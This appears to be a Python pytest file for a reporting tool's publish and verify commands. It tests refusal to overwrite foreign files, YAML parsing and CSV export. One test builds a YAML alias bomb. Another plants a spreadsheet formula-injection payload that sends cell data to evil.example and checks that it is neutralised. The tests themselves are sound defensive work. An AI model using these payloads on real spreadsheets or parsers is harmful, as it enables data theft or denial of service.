"""Publishing never destroys what is not its own; bad places and bad files get a clear message.

Every command here is `perfanalysis.cli.main([...])` called in-process, as a user types it.
Refused targets are refused before any work, so these tests run no notebook.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from conftest import tree_digest

from perfanalysis import cli
from perfanalysis.runner import _owner_tag, _place_error, clean_leftovers

ROOT = Path(__file__).resolve().parent.parent
SMALL = ROOT / "tests" / "data" / "small"


@pytest.fixture
def setup(tmp_path: Path) -> dict[str, Path]:
    """A copy of the small dataset and a parameters file for it, in a folder of the test's own."""
    shutil.copytree(SMALL, tmp_path / "data")
    params = tmp_path / "q4.yaml"
    params.write_text("dataset: data\nperiod: Q4 2017/18\nstrategies: all\n")
    return {"base": tmp_path, "data": tmp_path / "data", "params": params}


def refused(params: Path, target: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Run with --out TARGET; assert exit 2, no traceback, TARGET and its parent unchanged."""
    watch = target.parent
    before = tree_digest(watch)
    code = cli.main(["run", str(params), "--out", str(target), "--quiet"])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "Traceback" not in err
    assert tree_digest(watch) == before, "the refused target (and its folder) must be untouched"
    return err


def test_out_at_a_folder_of_someone_elses_files_is_refused(setup, capsys):
    mine = setup["base"] / "my-documents"
    mine.mkdir()
    (mine / "budget.xlsx").write_bytes(b"precious")
    (mine / "notes").mkdir()
    (mine / "notes" / "n.txt").write_text("keep me")
    err = refused(setup["params"], mine, capsys)
    assert f"refusing to publish into {mine}" in err and "no manifest.json" in err


def test_out_at_the_dataset_inside_it_or_above_it_is_refused(setup, capsys):
    for target in (setup["data"], setup["data"] / "pack", setup["base"]):
        err = refused(setup["params"], target, capsys)
        assert "the dataset" in err, target


def test_out_at_an_existing_file_is_refused(setup, capsys):
    target = setup["base"] / "report.html"
    target.write_text("<p>someone's page</p>")
    err = refused(setup["params"], target, capsys)
    assert "it is an existing file" in err


def test_out_at_a_pack_with_an_extra_file_or_a_forged_manifest_is_refused(setup, capsys):
    pack = setup["base"] / "pack"
    pack.mkdir()
    (pack / "index.html").write_text("x")
    (pack / "manifest.json").write_text(
        json.dumps({"manifest_version": 1, "outputs": [{"path": "index.html", "sha256": "0"}]})
    )
    (pack / "minutes.docx").write_bytes(b"not ours")
    err = refused(setup["params"], pack, capsys)
    assert "minutes.docx, which perfanalysis did not publish" in err
    (pack / "minutes.docx").unlink()
    (pack / "manifest.json").write_text("{not json")
    err = refused(setup["params"], pack, capsys)
    assert "not a perfanalysis manifest" in err


def test_output_in_the_parameters_file_is_checked_the_same_way(setup, capsys):
    (setup["base"] / "reports").mkdir()
    target = setup["base"] / "reports" / "testshire-county-council" / "2017-18-q4"
    target.mkdir(parents=True)
    (target / "draft.txt").write_text("mine")
    setup["params"].write_text(
        "dataset: data\nperiod: Q4 2017/18\nstrategies: all\noutput: reports\n"
    )
    before = tree_digest(setup["base"] / "reports")
    assert cli.main(["run", str(setup["params"]), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert f"refusing to publish into {target}" in err and "no manifest.json" in err
    assert tree_digest(setup["base"] / "reports") == before


def test_an_over_long_out_name_is_refused_with_a_message(setup, capsys):
    err = refused(setup["params"], setup["base"] / ("p" * 300), capsys)
    assert "too long" in err


def test_out_under_a_file_says_which_path(setup, capsys):
    blocker = setup["base"] / "afile"
    blocker.write_text("x")
    code = cli.main(["run", str(setup["params"]), "--out", str(blocker / "pack"), "--quiet"])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err
    assert str(blocker) in err
    assert blocker.read_text() == "x"


@pytest.mark.parametrize(
    "code, words",
    [
        (errno.ENOSPC, "the disk is full"),
        (errno.EACCES, "permission denied"),
        (errno.ENAMETOOLONG, "too long"),
    ],
)
def test_os_errors_while_publishing_name_the_path_and_what_to_do(code, words):
    message = str(_place_error(OSError(code, os.strerror(code), "/srv/packs/q4/index.html")))
    assert "/srv/packs/q4/index.html" in message and words in message


def test_leftovers_of_killed_runs_are_removed_and_live_ones_kept(tmp_path):
    pack = tmp_path / "pack"
    pack.mkdir()
    dead = subprocess.Popen(["true"])
    dead.wait()  # a process that has ended: its pid is no longer alive
    host = _owner_tag().split("-")[0]
    killed = tmp_path / f".pack.building-{host}-{dead.pid}-0123abcd"
    killed.mkdir()
    (killed / "index.html").write_text("<p>half a page")
    live = tmp_path / f".pack.building-{host}-{os.getpid()}-89abcdef"
    live.mkdir()
    other_host = tmp_path / ".pack.building-ffffffff-1-01234567"
    other_host.mkdir()
    stranger = tmp_path / ".pack.building-is-not-ours"
    stranger.mkdir()
    removed = clean_leftovers(pack)
    assert removed == [killed]
    assert live.is_dir() and other_host.is_dir() and stranger.is_dir()


def test_parameters_alias_bomb_is_refused(tmp_path, capsys):
    bomb = tmp_path / "bomb.yaml"
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        lines.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    bomb.write_text("dataset: data\nperiod: Q4 2017/18\n" + "\n".join(lines) + "\n")
    assert cli.main(["run", str(bomb), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert str(bomb) in err and "alias" in err


def test_verify_on_a_truncated_manifest_says_so(tmp_path, capsys):
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "manifest.json").write_text('{"manifest_version": 1, "pack": {"organ')
    assert cli.main(["verify", str(pack)]) == 2
    err = capsys.readouterr().err
    assert "manifest.json" in err and "truncated" in err and "Traceback" not in err


def test_verify_on_a_folder_that_is_not_a_pack(tmp_path, capsys):
    assert cli.main(["verify", str(tmp_path)]) == 2
    assert "no manifest.json" in capsys.readouterr().err


def test_figures_csv_neutralises_formulas_and_keeps_numbers(setup):
    from perfanalysis.prepared import build_pack
    from perfanalysis.publish import write_figures

    measures = setup["data"] / "measures.csv"
    text = measures.read_text()
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    text = text.replace(
        "People killed or seriously injured on roads", '"' + payload.replace('"', '""') + '"'
    )
    measures.write_text(text)
    _, pack = build_pack(setup["data"], "Q4 2017/18")
    write_figures(pack, setup["base"] / "figures.csv")
    raw = (setup["base"] / "figures.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw
    assert ',"=HYPERLINK' not in raw and ",=HYPERLINK" not in raw
    figures = pd.read_csv(setup["base"] / "figures.csv").set_index("measure_id")
    assert figures.loc["R-01", "title"] == "'" + payload
    assert pd.api.types.is_float_dtype(figures["gap"])
    assert (figures["gap"] < 0).any(), "negative numbers stay numbers"
    assert pd.api.types.is_float_dtype(figures["actual"])
